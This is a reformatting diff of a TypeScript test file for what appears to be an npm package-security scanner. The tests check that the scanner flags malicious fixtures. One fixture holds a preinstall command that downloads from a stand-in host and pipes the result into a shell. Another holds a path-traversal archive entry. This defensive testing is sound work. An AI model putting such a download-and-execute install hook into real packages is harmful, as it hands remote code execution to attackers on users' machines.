@@ -10,11 +10,15 @@ import type { NpmSource } from '../../src/engine/types.js';
 import { makeTgz } from '../archive/helpers.js';
 import { CONTENT_FIXTURES } from './helpers.js';
 
-const evilTgz = () => makeTgz([
-  { name: 'package/package.json', body: JSON.stringify({ name: 'evil', version: '2.0.0', scripts: { preinstall: 'curl -s https://dl.example.invalid/x | sh' } }) },
-  { name: 'package/index.js', body: 'module.exports = 1;' },
-  { name: '../escape.js', body: 'x' },
-]);
+const evilTgz = () =>
+  makeTgz([
+    {
+      name: 'package/package.json',
+      body: JSON.stringify({ name: 'evil', version: '2.0.0', scripts: { preinstall: 'curl -s https://dl.example.invalid/x | sh' } }),
+    },
+    { name: 'package/index.js', body: 'module.exports = 1;' },
+    { name: '../escape.js', body: 'x' },
+  ]);
 
 test('inspect a directory: ScanResult with findings and facts keyed by the purl', async () => {
   const r = await inspect(CONTENT_FIXTURES + 'reverse-shell-install', { cwd: '/' });
@@ -23,7 +27,10 @@ test('inspect a directory: ScanResult with findings and facts keyed by the purl'
   assert.equal(r.summary.findings.critical, 2, 'install-download-exec and the reverse-shell chain');
   const facts = r.facts['content']?.['pkg:npm/fixture-reverse-shell-install@1.0.0'] as { installScripts: { event: string }[] };
   assert.equal(facts.installScripts[0]?.event, 'postinstall');
-  assert.ok(r.findings.every((f) => f.fingerprint), 'result is finalized');
+  assert.ok(
+    r.findings.every((f) => f.fingerprint),
+    'result is finalized',
+  );
 });
 
 test('inspect a local .tgz: npm prefix handled, unsafe entry and download-exec flagged', async () => {
@@ -47,7 +54,12 @@ test('inspect npm:name@range resolves through the npm source (no network: an in-
     registryUrl: () => 'http://127.0.0.1:9/',
     async getPackument(name) {
       calls.push(`packument ${name}`);
-      const v = (version: string) => ({ name, version, dist: { tarball: `http://127.0.0.1:9/${name}-${version}.tgz`, integrity: 'sha512-x' }, raw: {} });
+      const v = (version: string) => ({
+        name,
+        version,
+        dist: { tarball: `http://127.0.0.1:9/${name}-${version}.tgz`, integrity: 'sha512-x' },
+        raw: {},
+      });
       return { name, distTags: { latest: '2.0.0' }, versions: { '1.0.0': v('1.0.0'), '2.0.0': v('2.0.0') } } as never;
     },
     async getTarball(name, version, opts) {
@@ -59,14 +71,22 @@ test('inspect npm:name@range resolves through the npm source (no network: an in-
   assert.deepEqual(calls, ['packument evil', 'tarball evil@2.0.0 sha512-x']);
   assert.equal(r.inventory.components[0]?.purl, 'pkg:npm/evil@2.0.0');
   assert.ok(r.findings.some((f) => f.rule === 'content/install-download-exec'));
-  await assert.rejects(inspect('npm:evil@^9', { cwd: '/', npm }), (e: unknown) => isVigilError(e, 'E_INPUT_NOT_FOUND') && /no version matches "\^9"/.test(e.message));
+  await assert.rejects(
+    inspect('npm:evil@^9', { cwd: '/', npm }),
+    (e: unknown) => isVigilError(e, 'E_INPUT_NOT_FOUND') && /no version matches "\^9"/.test(e.message),
+  );
 });
 
 test('inspect errors: npm spec without a client, missing path, corrupt archive, bad spec', async () => {
   await assert.rejects(inspect('npm:left-pad@1.3.0', { cwd: '/' }), (e: unknown) => isVigilError(e, 'E_UNSUPPORTED'));
   await assert.rejects(inspect('no/such/file.tgz', { cwd: '/tmp' }), (e: unknown) => isVigilError(e, 'E_INPUT_NOT_FOUND'));
-  await assert.rejects(inspect(join(CONTENT_FIXTURES, '..', 'archive', 'corrupt', 'truncated.tgz'), { cwd: '/' }), (e: unknown) => isVigilError(e, 'E_ARCHIVE'));
-  assert.throws(() => parseNpmSpec('npm:'), (e: unknown) => isVigilError(e, 'E_USAGE'));
+  await assert.rejects(inspect(join(CONTENT_FIXTURES, '..', 'archive', 'corrupt', 'truncated.tgz'), { cwd: '/' }), (e: unknown) =>
+    isVigilError(e, 'E_ARCHIVE'),
+  );
+  assert.throws(
+    () => parseNpmSpec('npm:'),
+    (e: unknown) => isVigilError(e, 'E_USAGE'),
+  );
   assert.deepEqual(parseNpmSpec('npm:@scope/pkg@1.2.3'), { name: '@scope/pkg', want: '1.2.3' });
   assert.deepEqual(parseNpmSpec('npm:pkg'), { name: 'pkg', want: 'latest' });
   assert.equal(parseNpmSpec('./dir'), undefined);
@@ -77,5 +97,7 @@ test('inspect command: local spec runs without opening the store; missing SPEC i
   const out = await inspectCommand.run({ ...base, options: { values: {}, sources: {}, positionals: ['jsfuck'] } });
   assert.equal(out.kind, 'result');
   assert.ok(out.kind === 'result' && out.result.findings.some((f) => f.rule === 'content/obfuscated-code'));
-  await assert.rejects(inspectCommand.run({ ...base, options: { values: {}, sources: {}, positionals: [] } }), (e: unknown) => isVigilError(e, 'E_USAGE'));
+  await assert.rejects(inspectCommand.run({ ...base, options: { values: {}, sources: {}, positionals: [] } }), (e: unknown) =>
+    isVigilError(e, 'E_USAGE'),
+  );
 });
